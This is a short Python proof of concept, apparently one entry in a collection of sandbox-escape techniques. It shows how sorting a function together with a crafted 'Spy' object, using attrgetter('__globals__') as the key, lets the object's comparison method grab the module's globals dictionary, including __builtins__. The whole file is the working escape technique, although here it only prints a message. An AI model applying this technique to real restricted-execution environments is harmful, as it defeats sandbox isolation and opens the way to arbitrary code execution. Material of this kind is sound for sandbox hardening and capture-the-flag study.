# technique: list.sort with an attrgetter as key: the comparison sees the dict
# goal: globals
# source: own analysis
import json
import operator


class Spy:
    __globals__ = property(lambda self: self)

    def __lt__(self, other):
        if isinstance(other, dict) and '__builtins__' in other:
            print('ESCAPED globals of', other['__name__'])
        return False

    __gt__ = __lt__


sorted([json.dumps, Spy()], key=operator.attrgetter('__globals__'))
